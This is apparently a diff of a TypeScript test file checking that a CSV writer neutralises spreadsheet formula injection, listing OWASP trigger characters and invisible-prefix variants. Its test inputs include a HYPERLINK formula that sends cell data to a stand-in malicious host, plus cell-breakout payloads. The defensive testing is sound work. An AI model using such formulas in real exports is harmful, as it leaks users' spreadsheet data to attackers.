@@ -3,7 +3,6 @@ import { describe, test } from "node:test";
 import { writeCsv } from "./csv.ts";
 import type { Cell, Table } from "./table.ts";
 
-/** Returns a table with one column that contains these cells. */
 const tableOf = (...texts: Cell[]): Table => ({
   columns: [{ name: "Judul", kind: "text" }],
   rows: texts.map((text) => [text]),
@@ -36,12 +35,12 @@ describe("a CSV table", () => {
     assert.equal(line('Kata "lubang"\nbesar'), '"Kata ""lubang""\nbesar"\r\n');
   });
 
-  // The list by OWASP: https://owasp.org/www-community/attacks/CSV_Injection
+  // The characters listed by OWASP: https://owasp.org/www-community/attacks/CSV_Injection
   for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
     test(`a CSV table prevents a text that begins with ${JSON.stringify(start)} from becoming a formula`, () => {
       for (const before of ["", " ", "\u00A0", "\u200B", "\uFEFF", "\n"]) {
         const text = `${before}${start}HYPERLINK("https://jahat.example?"&A1)`;
-        // A line break splits a text just as a separator does.
+        // A line break starts a new cell, as a separator does.
         const guarded = before === "\n" && !/\s/.test(start) ? `${before}'${text.slice(1)}` : text;
         assert.equal(line(text), `"'${guarded.replaceAll('"', '""')}"\r\n`);
       }
@@ -61,7 +60,7 @@ describe("a CSV table", () => {
       assert.equal(line(text), `"${text}"\r\n`);
   });
 
-  test("a CSV table prevents a text from starting a new cell that contains a formula", () => {
+  test("a CSV table prevents a text from ending its cell and starting a formula in the next one", () => {
     for (const [text, written] of [
       ['";=1+1;"', '";\'=1+1;"'],
       ['",=1+1,"', '",\'=1+1,"'],
